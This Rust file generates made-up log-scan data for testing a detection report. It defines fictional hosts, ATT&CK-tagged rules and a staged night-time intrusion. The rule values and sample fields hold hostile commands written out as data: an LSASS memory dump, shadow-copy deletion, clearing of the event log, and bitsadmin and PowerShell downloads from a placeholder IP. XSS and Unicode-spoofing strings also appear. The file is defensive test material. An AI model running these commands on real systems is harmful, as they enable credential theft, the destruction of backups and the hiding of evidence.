//! An invented scan of the small nation's logs, repeatable: what the report's pictures and
//! tests are made of. Hostile strings are among its values.

use jiff::tz::TimeZone;
use jiff::{SignedDuration, Timestamp};
use report::{
    EventLine, FlawLine, HostSummary, Language, Level, MissLine, RefusedRule, RuleSummary, ScanReport,
    StoryLine, TimelineBin, Tlp, Truth, UnknownLine, VerdictLine,
};

/// id, title, Japanese title, level, tags, field, value.
type Rule =
    (&'static str, &'static str, &'static str, Level, &'static [&'static str], &'static str, &'static str);

const RULES: [Rule; 14] = [
    (
        "7a1c3f52-9f0e-4c1b-8f6d-1b7a5f0e2c11",
        "LSASS memory written through comsvcs.dll",
        "comsvcs.dll で LSASS の記憶を書き出した",
        Level::Critical,
        &["attack.credential-access", "attack.t1003.001"],
        "CommandLine",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 684 C:\\Windows\\Temp\\l.dmp full",
    ),
    (
        "2d9b8f14-5a37-4e0c-9e77-66c0d1f7a3b2",
        "Shadow copies deleted",
        "シャドウコピーを消した",
        Level::Critical,
        &["attack.impact", "attack.t1490"],
        "CommandLine",
        "vssadmin.exe delete shadows /all /quiet",
    ),
    (
        "c41e77d0-3b1a-4f58-b2d6-0a9c5de81f4e",
        "Many files renamed to one new extension",
        "多くのファイルが同じ新しい拡張子に変わった",
        Level::Critical,
        &["attack.impact", "attack.t1486"],
        "TargetFilename",
        "D:\\共有\\住民票\\2026年度\\申請一覧.xlsx.locked",
    ),
    (
        "9be2a6c3-61d4-4b5f-8a10-4c3f27e9b0d5",
        "Service installed from a temporary folder",
        "一時フォルダからサービスを登録した",
        Level::High,
        &["attack.persistence", "attack.t1543.003"],
        "ServiceFileName",
        "C:\\Windows\\Temp\\svchlp.exe -k netsvcs",
    ),
    (
        "51f0c9aa-7d2e-4b8c-a6b1-e2d4937c5f60",
        "Encoded PowerShell in a hidden window",
        "隠れた窓で符号化された PowerShell を実行した",
        Level::High,
        &["attack.execution", "attack.t1059.001", "attack.t1027"],
        "CommandLine",
        "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    ),
    (
        "e80d21b7-0c95-42af-9d3e-7f6a1b84c2e9",
        "Logon with explicit credentials to many hosts",
        "明示した資格情報で多くの端末へ入った",
        Level::High,
        &["attack.lateral-movement", "attack.t1021.002", "attack.t1078"],
        "TargetUserName",
        "svc-maint",
    ),
    (
        "0f6b5d93-8e24-4c7a-b15f-3d9c0a72e6b8",
        "Event log cleared",
        "イベントログを消した",
        Level::High,
        &["attack.defense-evasion", "attack.t1070.001"],
        "CommandLine",
        "wevtutil.exe cl Security",
    ),
    (
        "b7d3e1f8-2a6c-4d90-8c4b-95e0f7a1d3c6",
        "File fetched by bitsadmin",
        "bitsadmin でファイルを取り込んだ",
        Level::Medium,
        &["attack.command-and-control", "attack.t1197"],
        "CommandLine",
        "bitsadmin /transfer u http://203.0.113.77/a.dat C:\\Windows\\Temp\\a.dat",
    ),
    (
        "46c8f2a9-d51b-4e37-9a60-1f8b7c3d5e02",
        "Scheduled task created remotely",
        "遠隔からタスクを登録した",
        Level::Medium,
        &["attack.persistence", "attack.t1053.005"],
        "TaskName",
        "\\Microsoft\\Windows\\NetTrace\\Sync",
    ),
    (
        "d2a97e4c-6b3f-4185-8e0d-c5f1b9a6370e",
        "Program run from a user's download folder",
        "ダウンロードのフォルダからプログラムを実行した",
        Level::Medium,
        &["attack.execution", "attack.t1204.002"],
        "Image",
        "C:\\Users\\yamada\\Downloads\\請求書\u{202e}xslx.exe",
    ),
    (
        "8c5e0b16-f47d-4a92-b8c3-2e6d1f9a7b54",
        "Domain groups listed",
        "ドメインのグループを列挙した",
        Level::Low,
        &["attack.discovery", "attack.t1069.002"],
        "CommandLine",
        "net.exe group \"Domain Admins\" /domain",
    ),
    (
        "3e7f9d25-1c8a-4b60-a7e4-f0b2c6d8915a",
        "Remote maintenance tool started",
        "遠隔保守ツールが動きはじめた",
        Level::Low,
        &["attack.t1219"],
        "Image",
        "C:\\Program Files\\RemoteMaint\\RemoteMaint.exe",
    ),
    (
        "f19a4c7e-b2d6-4e03-95f8-7a0c3d5b8e61",
        "auditd: shell started by a network service",
        "auditd: 通信サービスがシェルを起動した",
        Level::Low,
        &["attack.execution"],
        "comm",
        "sh",
    ),
    (
        "6d0e8b3a-4f92-4c57-8b1d-e9a5c7f2d604",
        "New local user <script>alert('rule')</script>",
        "新しい利用者 <script>alert('rule')</script>",
        Level::Informational,
        &[],
        "TargetUserName",
        "kyoyo01",
    ),
];

const HOSTS: [(&str, &str); 9] = [
    ("HINATA-DC01", "logs/hinata/HINATA-DC01/Security.evtx"),
    ("HINATA-FS01", "logs/hinata/HINATA-FS01/Sysmon-Operational.evtx"),
    ("HINATA-WS017", "logs/hinata/HINATA-WS017/Sysmon-Operational.evtx"),
    ("AOBA-DC01", "logs/aoba/AOBA-DC01/Security.evtx"),
    ("AOBA-EMR02", "logs/aoba/AOBA-EMR02/Sysmon-Operational.evtx"),
    ("HOSHU-RM01", "logs/hoshu/HOSHU-RM01/Security.evtx"),
    ("CHIRI-WS044", "logs/chiri/collected.ndjson"),
    ("keizai-lx03.keizai.example", "logs/keizai/audit/audit.log"),
    ("<b>\u{202e}DC\u{200b}01</b>", "logs/strange/\u{1b}[31m'\"><img src=x>.ndjson"),
];

fn at(text: &str) -> Timestamp {
    text.parse().unwrap_or_default()
}

/// A small repeatable source of numbers below a bound.
pub fn numbers(mut state: u64) -> impl FnMut(u64) -> u64 {
    move |below| {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (state >> 33) % below.max(1)
    }
}

/// Three days of logs with an attack in the night of 11 June, in `language`.
pub fn busy(language: Language) -> ScanReport {
    let mut report = quiet(language);
    report.verdicts = verdicts();
    report.verdicts_total = report.verdicts.len() as u64;
    summarise(&mut report);
    report.tlp = Tlp::AmberStrict;
    report.truth = Some(truth());
    report.refused = refused(language);
    report.flaws = flaws(language);
    report.flaws_total = 12;
    report
}

/// The same days, and no rule matches.
pub fn quiet(language: Language) -> ScanReport {
    ScanReport {
        language,
        zone: TimeZone::get("Asia/Tokyo").unwrap_or(TimeZone::UTC),
        generated: at("2026-06-12T00:30:00Z"),
        title: String::new(),
        product_version: "0.1.0".to_owned(),
        tlp: Tlp::Green,
        paths: ["logs/hinata", "logs/aoba", "logs/hoshu", "logs/chiri", "logs/keizai"]
            .map(str::to_owned)
            .to_vec(),
        first: Some(at("2026-06-08T15:00:12Z")),
        last: Some(at("2026-06-11T14:58:41Z")),
        seconds: 34.2,
        events: 1_204_331,
        events_without_rules: 144_520,
        sources: 42,
        recognised: 42,
        bytes: 812_400_000,
        rules_loaded: 1_204,
        refused: Vec::new(),
        flaws: Vec::new(),
        flaws_total: 0,
        rules: Vec::new(),
        hosts: Vec::new(),
        timeline: Vec::new(),
        bin_seconds: 1_800,
        verdicts: Vec::new(),
        verdicts_total: 0,
        truth: None,
    }
}

fn verdicts() -> Vec<VerdictLine> {
    let mut number = numbers(20_260_611);
    let mut verdicts = Vec::new();
    // Ordinary days: mild rules on all hosts.
    for _ in 0..218 {
        let rule = 7 + number(7) as usize;
        let minutes = number(4_320) as i64;
        let host = number(9) as usize;
        verdicts.push(verdict(rule, host, minutes * 60, &mut number));
    }
    // The night: supplier first, then the city office, then the hospital.
    let night = 2 * 86_400;
    for (rule, host, minute) in [
        (11, 5, 82),
        (4, 5, 96),
        (0, 5, 101),
        (5, 5, 112),
        (5, 0, 121),
        (3, 0, 124),
        (4, 0, 126),
        (0, 0, 133),
        (5, 1, 138),
        (3, 1, 141),
        (5, 2, 144),
        (3, 2, 146),
        (6, 0, 149),
        (1, 1, 151),
        (1, 0, 152),
        (1, 2, 154),
        (5, 3, 171),
        (3, 3, 176),
        (6, 3, 181),
        (5, 4, 188),
        (1, 4, 192),
    ] {
        verdicts.push(verdict(rule, host, night + minute * 60 + number(50) as i64, &mut number));
    }
    for _ in 0..62 {
        let (rule, host) = ([2, 2, 2, 5, 7, 6][number(6) as usize], [1, 1, 0, 2][number(4) as usize]);
        verdicts.push(verdict(rule, host, night + 155 * 60 + number(1_500) as i64, &mut number));
    }
    verdicts
}

fn verdict(rule: usize, host: usize, seconds: i64, number: &mut impl FnMut(u64) -> u64) -> VerdictLine {
    let (id, title, _, level, _, field, value) = RULES[rule];
    let (host, source) = HOSTS[host];
    let ordinal = 1 + number(900_000);
    let mut fields = vec![
        (field.to_owned(), value.to_owned()),
        ("EventID".to_owned(), [1, 4_688, 7_045, 11][number(4) as usize].to_string()),
        ("ParentImage".to_owned(), "C:\\Windows\\System32\\cmd.exe".to_owned()),
        ("User".to_owned(), "HINATA\\svc-maint".to_owned()),
    ];
    match number(40) {
        0 => fields.push((
            "<img src=x onerror=alert(1)>".to_owned(),
            "\u{1b}]0;owned\u{7}\u{200b}\u{feff}".to_owned(),
        )),
        1 => fields.push((
            "ScriptBlockText".to_owned(),
            "$c = New-Object Net.WebClient\n$c.DownloadString('http://203.0.113.77/s')\t# </script>\n"
                .repeat(60),
        )),
        _ => {}
    }
    let is_text = source.ends_with("ndjson") || source.ends_with("log");
    let event = |seconds, ordinal| EventLine {
        time: at("2026-06-08T15:00:00Z").checked_add(SignedDuration::from_secs(seconds)).ok(),
        source_path: source.to_owned(),
        ordinal,
        line: is_text.then_some(ordinal),
        record_id: (!is_text).then_some(ordinal + 48_000),
    };
    // Some look like the verdicts of a correlation.
    let before = if number(30) == 0 { 1 + number(40) } else { 0 };
    let step = |number: u64| i64::try_from(number).unwrap_or(0);
    VerdictLine {
        event: event(seconds, ordinal),
        level,
        rule_id: id.to_owned(),
        title: title.to_owned(),
        host: host.to_owned(),
        fields,
        before: (1..=before)
            .rev()
            .map(|back| event(seconds - 9 * step(back), ordinal.saturating_sub(back)))
            .collect(),
        before_count: before,
    }
}

/// Fills rules, hosts and timeline from the verdicts.
pub fn summarise(report: &mut ScanReport) {
    report.rules = RULES
        .iter()
        .map(|(id, title, title_ja, level, tags, _, _)| {
            let of: Vec<&VerdictLine> =
                report.verdicts.iter().filter(|verdict| verdict.rule_id == *id).collect();
            let mut hosts: Vec<&str> = of.iter().map(|verdict| verdict.host.as_str()).collect();
            hosts.sort_unstable();
            hosts.dedup();
            RuleSummary {
                rule_id: (*id).to_owned(),
                title: (*title).to_owned(),
                title_ja: Some((*title_ja).to_owned()),
                level: *level,
                tags: tags.iter().map(|tag| (*tag).to_owned()).collect(),
                count: of.len() as u64,
                hosts: hosts.len() as u64,
                first: of.iter().filter_map(|verdict| verdict.event.time).min(),
                last: of.iter().filter_map(|verdict| verdict.event.time).max(),
            }
        })
        .filter(|rule| rule.count > 0)
        .collect();
    let mut names: Vec<String> = report.verdicts.iter().map(|verdict| verdict.host.clone()).collect();
    names.sort_unstable();
    names.dedup();
    report.hosts = names
        .into_iter()
        .map(|host| {
            let of = || report.verdicts.iter().filter(|verdict| verdict.host == host);
            let mut by_level = [0; 5];
            of().for_each(|verdict| by_level[verdict.level.index()] += 1);
            let (first, last) = (
                of().filter_map(|verdict| verdict.event.time).min(),
                of().filter_map(|verdict| verdict.event.time).max(),
            );
            HostSummary { count: by_level.iter().sum(), by_level, first, last, host: host.clone() }
        })
        .collect();
    report.timeline.clear();
    for verdict in &report.verdicts {
        let Some(time) = verdict.event.time else { continue };
        let start = time.as_second().div_euclid(report.bin_seconds) * report.bin_seconds;
        let start = Timestamp::from_second(start).unwrap_or_default();
        let bin = match report.timeline.iter_mut().find(|bin| bin.start == start) {
            Some(bin) => bin,
            None => {
                report.timeline.push(TimelineBin { start, counts: [0; 5] });
                let last = report.timeline.len() - 1;
                &mut report.timeline[last]
            }
        };
        bin.counts[verdict.level.index()] += 1;
    }
}

fn truth() -> Truth {
    let miss = |time: &str, host: &str, technique: &str, step: &str| MissLine {
        time: Some(at(time)),
        host: host.to_owned(),
        technique: technique.to_owned(),
        step: step.to_owned(),
    };
    let unknown = |technique: &str, step: &str, (planted, seen)| UnknownLine {
        story: "A".to_owned(),
        technique: technique.to_owned(),
        step: step.to_owned(),
        planted,
        seen,
    };
    Truth {
        planted: 94,
        planted_expected: 87,
        found: 83,
        false_verdicts: 3,
        false_severe: 0,
        verdicts: 301,
        precision: 298.0 / 301.0,
        recall: 83.0 / 87.0,
        missed: vec![
            miss("2026-06-10T15:58:04Z", "HOSHU-RM01", "T1190", "外から保守用の機器に入る"),
            miss("2026-06-10T17:21:40Z", "HINATA-DC01", "T1021.001", "画面共有で市役所に移る"),
            miss("2026-06-10T18:02:11Z", "AOBA-EMR02", "T1560.001", "持ち出す前に固める"),
            miss("2026-06-10T18:09:55Z", "AOBA-EMR02", "T1048", "外へ送る"),
        ],
        stories: vec![StoryLine { story: "A".to_owned(), planted: 94, expected: 87, found: 83, seen: 2 }],
        unknown: vec![
            unknown("T1218", "印刷スプーラによる保守ツールの起動", (5, 2)),
            unknown("T1486", "ファイルの暗号化", (2, 0)),
        ],
    }
}

fn refused(language: Language) -> Vec<RefusedRule> {
    let reasons = match language {
        Language::Ja => [
            "条件の書き方を読めない: 「1 of them」の後に語がある",
            "知らない修飾子 |cidrx がある",
            "YAML ではない",
        ],
        Language::En => {
            ["condition cannot be read: words after \"1 of them\"", "unknown modifier |cidrx", "not YAML"]
        }
    };
    let place = [
        ("rules/windows/odd_transfer.yml", 21),
        ("rules/linux/ranges.yml", 14),
        ("rules/notes\u{202e}lmy.txt", 0),
    ];
    reasons
        .into_iter()
        .zip(place)
        .enumerate()
        .map(|(number, (reason, (path, line)))| RefusedRule {
            rule_id: (number < 2).then(|| RULES[number].0.to_owned()),
            path: path.to_owned(),
            line,
            reason: reason.to_owned(),
        })
        .collect()
}

fn flaws(language: Language) -> Vec<FlawLine> {
    let reasons = match language {
        Language::Ja => ["記録の長さが塊の終わりを越える", "JSON の行が途中で終わる", "時刻を読めない"],
        Language::En => [
            "a record is longer than the rest of its chunk",
            "a JSON line ends too early",
            "the time cannot be read",
        ],
    };
    (0..9)
        .map(|number| FlawLine {
            source_path: HOSTS[[1, 6, 7, 8][number % 4]].1.to_owned(),
            offset: 65_536 * (number as u64 + 1) + 512,
            reason: reasons[number % 3].to_owned(),
        })
        .collect()
}
